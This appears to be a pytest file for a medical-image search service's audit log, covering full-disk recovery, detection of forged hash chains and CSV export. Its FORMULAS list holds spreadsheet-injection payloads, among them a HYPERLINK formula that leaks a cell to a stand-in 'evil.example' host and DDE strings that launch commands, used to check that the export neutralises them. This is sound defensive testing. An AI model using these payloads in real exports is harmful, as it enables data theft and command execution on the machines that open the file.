"""The audit log under a full disk and against a forger (issue 21, findings 2, 9 and the CSV part
of 10), against real `convirt serve` processes, the real `convirt audit` command and a real small
filesystem (a 256 KiB tmpfs, mounted here: this needs root, or the tests skip saying so, unless
CONVIRT_REQUIRE_TOOLS=1).

- A full disk: while it is full audited requests get 503 audit_unavailable; the line the full disk
  cut short is sealed once space is freed, requests succeed again without a restart, a restart
  while it is still full no longer exits 2, and `convirt audit verify` calls it a recovered torn
  write, not tampering. A disk under CONVIRT_AUDIT_MIN_FREE_MB is refused before it fills.
- Forgeries by someone who can write the log's disk but not the key file or the anchor (kept
  elsewhere): the last line deleted and LOG.head rewritten, the log and head emptied, a line
  removed and the plain SHA-256 chain recomputed. Each is found.
- `convirt audit --csv` never writes a cell a spreadsheet would run as a formula.
- A large answer's audit line stays small.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from conftest import error_of, index_of_rows, server_settings, serving

from convirt.bundle import load_bundle
from service.audit import AuditLog, AuditRecord

FIELDS = ["image", "text", "modality", "case_id", "StudyInstanceUID"]
UID_ROOT = "1.2.826.0.1.3680043.8.498"
QUERY = "Axial CT image of the chest showing a mass in the lung."
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tpadded formula",
]


# -- fixtures --------------------------------------------------------------------------------------


def convirt(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    """The real `convirt` command, in a subprocess."""
    return subprocess.run(
        [sys.executable, "-m", "convirt.cli", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env=None if env is None else {**os.environ, **env},
    )


@pytest.fixture(scope="module")
def index_root(tmp_path_factory, bundle_dir, datasets) -> Path:
    with open(datasets / "medpix" / "manifest.csv", newline="", encoding="utf-8") as f:
        medpix = [r for r in csv.DictReader(f) if r["split"] == "train"][:12]
    rows = [
        {
            "image": str(datasets / "medpix" / r["image"]),
            "text": r["text"],
            "modality": r["modality"],
            "case_id": r["case_id"],
            "StudyInstanceUID": f"{UID_ROOT}.{n // 3 + 1}",  # three images a study
        }
        for n, r in enumerate(medpix)
    ]
    folder = tmp_path_factory.mktemp("audit-index")
    return index_of_rows(folder, load_bundle(bundle_dir), rows, FIELDS)


@pytest.fixture(scope="module")
def vault(tmp_path_factory) -> Path:
    """Where the chain key and the anchor live: not the log's disk (here: not its folder)."""
    return tmp_path_factory.mktemp("vault")


@pytest.fixture(scope="module")
def guarded(bundle_dir, index_root, vault, tmp_path_factory) -> Iterator[tuple]:
    """A server requiring keys, its audit log keeping query texts, key and anchor elsewhere."""
    state = tmp_path_factory.mktemp("audit-state")
    db = state / "keys.sqlite"
    added = convirt("keys", "add", "--db", str(db), "--name", FORMULAS[0], "--role", "admin")
    assert added.returncode == 0, added.stderr
    settings = server_settings(
        bundle_dir,
        index_root,
        CONVIRT_AUTH_DB=db,
        CONVIRT_AUDIT_LOG=state / "audit.jsonl",
        CONVIRT_AUDIT_QUERIES="text",
        CONVIRT_AUDIT_KEY_FILE=vault / "audit.key",
        CONVIRT_AUDIT_ANCHOR=vault / "audit.anchor",
    )
    with serving(settings) as process, httpx.Client(base_url=process.url, timeout=60) as client:
        client.headers["X-API-Key"] = added.stdout.strip()
        yield client, state / "audit.jsonl"


def keyed_env(vault: Path) -> dict[str, str]:
    """How `convirt audit` finds the key and the anchor (environment: older versions ignore it)."""
    return {
        "CONVIRT_AUDIT_KEY_FILE": str(vault / "audit.key"),
        "CONVIRT_AUDIT_ANCHOR": str(vault / "audit.anchor"),
    }


def search(client: httpx.Client, text: str = QUERY, **controls) -> httpx.Response:
    return client.post("/v1/search/text", json={"text": text, **controls})


# -- finding 9: forgeries --------------------------------------------------------------------------


def copy_log(log: Path, folder: Path) -> Path:
    """The log's disk as a forger finds it: the log, its head and its salt (not key, not anchor)."""
    folder.mkdir()
    for suffix in ("", ".head", ".salt"):
        shutil.copy(log.with_name(log.name + suffix), folder / (log.name + suffix))
    return folder / log.name


def plain_rechain(lines: list[bytes]) -> tuple[list[bytes], dict]:
    """Renumber and relink `lines` with a plain SHA-256 chain, as the forger of finding 9 did."""
    prev, out, entry = "0" * 64, [], {}
    for seq, raw in enumerate(lines, 1):
        entry = json.loads(raw)
        entry.pop("hash")
        entry.update(seq=seq, prev=prev)
        body = json.dumps(entry, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        entry["hash"] = prev = hashlib.sha256(body.encode()).hexdigest()
        out.append(json.dumps(entry, sort_keys=True, separators=(",", ":")).encode() + b"\n")
    return out, {"seq": entry.get("seq", 0), "hash": prev}


def test_forged_audit_chain_is_detected(guarded, vault, tmp_path):
    client, log = guarded
    for n in range(4):
        assert search(client, f"forgery probe {n}", k=2).status_code == 200
    env = keyed_env(vault)
    anchor_copy = tmp_path / "audit.anchor"
    if (vault / "audit.anchor").exists():  # taken with the log: the same moment
        shutil.copy(vault / "audit.anchor", anchor_copy)
    env["CONVIRT_AUDIT_ANCHOR"] = str(anchor_copy)
    intact = copy_log(log, tmp_path / "intact")
    done = convirt("audit", "verify", "--log", str(intact), env=env)
    assert done.returncode == 0, done.stderr
    lines = intact.read_bytes().splitlines(keepends=True)
    assert len(lines) >= 4

    # 1. the last line deleted, LOG.head rewritten to name the new last line
    cut = copy_log(log, tmp_path / "cut")
    cut.write_bytes(b"".join(lines[:-1]))
    last = json.loads(lines[-2])
    Path(f"{cut}.head").write_text(json.dumps({"seq": last["seq"], "hash": last["hash"]}))
    found = convirt("audit", "verify", "--log", str(cut), env=env)
    assert found.returncode == 1, found.stdout + found.stderr
    assert "head" in found.stderr or "anchor" in found.stderr

    # 2. the log and its head emptied: "0 entries" is not an intact log when the anchor says more
    emptied = copy_log(log, tmp_path / "emptied")
    emptied.write_bytes(b"")
    Path(f"{emptied}.head").unlink()
    found = convirt("audit", "verify", "--log", str(emptied), env=env)
    assert found.returncode == 1, found.stdout + found.stderr
    assert "emptied" in found.stderr and "anchor" in found.stderr

    # 3. one line removed, the plain SHA-256 chain and the head recomputed
    rechained = copy_log(log, tmp_path / "rechained")
    forged, head = plain_rechain(lines[:1] + lines[2:])
    rechained.write_bytes(b"".join(forged))
    Path(f"{rechained}.head").write_text(json.dumps(head))
    found = convirt("audit", "verify", "--log", str(rechained), env=env)
    assert found.returncode == 1, found.stdout + found.stderr
    assert "line 1:" in found.stderr and "keyed hash" in found.stderr

    # without the anchor the keyed chain and head still catch 1 and 3; 2 is only noted
    env.pop("CONVIRT_AUDIT_ANCHOR")
    for forgery in (cut, rechained):
        assert convirt("audit", "verify", "--log", str(forgery), env=env).returncode == 1
    noted = convirt("audit", "verify", "--log", str(emptied), env=env)
    assert "no anchor" in noted.stderr


def test_audit_rotation_carries_the_chain_over(guarded, vault):
    client, log = guarded
    assert search(client, "before rotation", k=2).status_code == 200
    env = keyed_env(vault)
    rotated = convirt("audit", "rotate", "--log", str(log), env=env)
    assert rotated.returncode == 0, rotated.stderr
    old = sorted(log.parent.glob("audit.jsonl.0*"))[-1]
    assert search(client, "after rotation", k=2).status_code == 200  # the server follows
    first, second = (json.loads(line) for line in log.read_text().splitlines()[:2])
    old_last = json.loads(old.read_text().splitlines()[-1])
    assert (first["event"], first["previous"], first["prev"]) == (
        "rotated",
        old.name,
        old_last["hash"],
    )
    assert second["query_text"] == "after rotation" and second["seq"] == first["seq"] + 1
    done = convirt("audit", "verify", "--log", str(log), env=env)
    assert done.returncode == 0 and "in 2 files" in done.stdout, done.stdout + done.stderr
    listed = convirt("audit", "--log", str(log), env=env).stdout
    assert "'before rotation'" in listed and "'after rotation'" in listed  # both files read


# -- finding 10: CSV export ------------------------------------------------------------------------


def test_audit_csv_neutralises_formulas(guarded):
    client, log = guarded
    for text in FORMULAS:
        assert search(client, text, k=2).status_code == 200, text
    exported = convirt("audit", "--log", str(log), "--csv")
    assert exported.returncode == 0, exported.stderr
    table = list(csv.DictReader(io.StringIO(exported.stdout)))
    rows = [row for row in table if row["query_text"].lstrip("'") in FORMULAS]
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
        assert row["query_text"][0] == "'" and row["name"] == "'" + FORMULAS[0]
    assert {row["query_text"][1:] for row in rows} == set(FORMULAS)  # nothing else changed


# -- finding 2: line size, full disk -------------------------------------------------------------


def worst_answer() -> list[str]:
    """The ids of a k=100 group_by=study answer: 100 cards, each with 8 more images."""
    return [str(2**62 + 7_919 * 104_729 * n) for n in range(100 * 9)]


def test_large_answer_audit_line_is_bounded(tmp_path):
    log = AuditLog(tmp_path / "audit.jsonl")
    record = AuditRecord(
        "key:0123456789abcdef", "reading room", "reader", "10.0.0.7", "POST", "/v1/search/text"
    )
    record.query, record.results = QUERY, worst_answer()
    log.write(record)
    line = (tmp_path / "audit.jsonl").read_bytes()
    unbounded = len(json.dumps(record.results))
    assert unbounded > 17_000  # what the ids alone took as a list
    assert len(line) < 2_000, len(line)
    kept = worst_answer()[99]
    found = convirt("audit", "--log", str(log.path), "--image", kept, "--csv")
    (row,) = list(csv.DictReader(io.StringIO(found.stdout)))
    assert row["results_count"] == "900" and len(row["results"].split()) == 100
    assert row["results_sha256"] == hashlib.sha256("\n".join(worst_answer()).encode()).hexdigest()
    assert convirt("audit", "verify", "--log", str(log.path)).returncode == 0


@pytest.fixture
def small_disk(tmp_path) -> Iterator[Path]:
    """A real 256 KiB tmpfs, unmounted afterwards."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
    )
    if done.returncode != 0:
        reason = f"cannot mount a small tmpfs (needs root): {done.stderr.strip()}"
        if os.environ.get("CONVIRT_REQUIRE_TOOLS") == "1":
            pytest.fail(reason + " (CONVIRT_REQUIRE_TOOLS=1)")
        pytest.skip(reason)
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def fill(disk: Path) -> Path:
    """Fill the disk to the last byte with a file; deleting it frees the space."""
    filler = disk / "filler"
    fd = os.open(filler, os.O_WRONLY | os.O_CREAT)
    try:
        while os.write(fd, b"\0" * 4096):
            pass
    except OSError:
        pass  # no space left
    finally:
        os.close(fd)
    return filler


def disk_server(bundle_dir, index_root, disk: Path, vault: Path, **extra) -> dict:
    return server_settings(
        bundle_dir,
        index_root,
        CONVIRT_AUDIT_LOG=disk / "audit.jsonl",
        CONVIRT_AUDIT_KEY_FILE=vault / "audit.key",
        CONVIRT_AUDIT_ANCHOR=vault / "audit.anchor",
        **extra,
    )


def test_full_audit_disk_recovers_after_space_is_freed(
    bundle_dir, index_root, small_disk, tmp_path
):
    log = small_disk / "audit.jsonl"
    settings = disk_server(
        bundle_dir, index_root, small_disk, tmp_path, CONVIRT_AUDIT_MIN_FREE_MB="0"
    )
    with serving(settings) as server, httpx.Client(base_url=server.url, timeout=60) as client:
        assert search(client, k=12, group_by="none").status_code == 200
        filler = fill(small_disk)
        for n in range(40):  # until a line is cut short (~10 lines fill the last page)
            refused = search(client, f"full disk {n}", k=12, group_by="none")
            error_of(refused, 503, "audit_unavailable")
            if not log.read_bytes().endswith(b"\n"):
                break
        assert not log.read_bytes().endswith(b"\n"), "no short write: the disk never filled"

    # a restart while the disk is still full starts (requests refused until space is freed)
    with serving(settings) as server, httpx.Client(base_url=server.url, timeout=60) as client:
        error = error_of(search(client), 503, "audit_unavailable")
        assert "nearly full" in error["message"]
        filler.unlink()
        assert search(client).status_code == 200  # no restart needed
        assert search(client, k=12, group_by="none").status_code == 200
        metrics = client.get("/metrics").text
    assert 'convirt_audit_refused_total{reason="disk_full"}' in metrics
    assert "convirt_audit_torn_writes_sealed_total 1.0" in metrics
    verdict = convirt("audit", "verify", "--log", str(log), env=keyed_env(tmp_path))
    assert verdict.returncode == 0, verdict.stderr
    assert "recovered torn write" in verdict.stderr and "tamper" not in verdict.stderr


def test_audit_disk_nearing_full_is_refused_early(bundle_dir, index_root, small_disk, tmp_path):
    log = small_disk / "audit.jsonl"
    reserve = "0.1"  # MB: about 100 KiB of the 256 KiB disk
    settings = disk_server(
        bundle_dir, index_root, small_disk, tmp_path, CONVIRT_AUDIT_MIN_FREE_MB=reserve
    )
    with serving(settings) as server, httpx.Client(base_url=server.url, timeout=60) as client:
        assert search(client).status_code == 200
        ballast = small_disk / "ballast"
        ballast.write_bytes(b"\0" * 200 * 1024)  # under the reserve, far from full
        size = log.stat().st_size
        error = error_of(search(client), 503, "audit_unavailable")
        assert "nearly full" in error["message"] and "operator" in error["message"]
        assert log.stat().st_size == size and log.read_bytes().endswith(b"\n")  # nothing torn
        metrics = client.get("/metrics").text
        assert 'convirt_audit_refused_total{reason="disk_reserve"} 1.0' in metrics
        free = next(
            x for x in metrics.splitlines() if x.startswith("convirt_audit_disk_free_bytes")
        )
        assert float(free.split()[-1]) < 0.1 * 1024 * 1024
        assert "under the reserve" in server.output()  # the operator's log says why
        ballast.unlink()
        assert search(client).status_code == 200
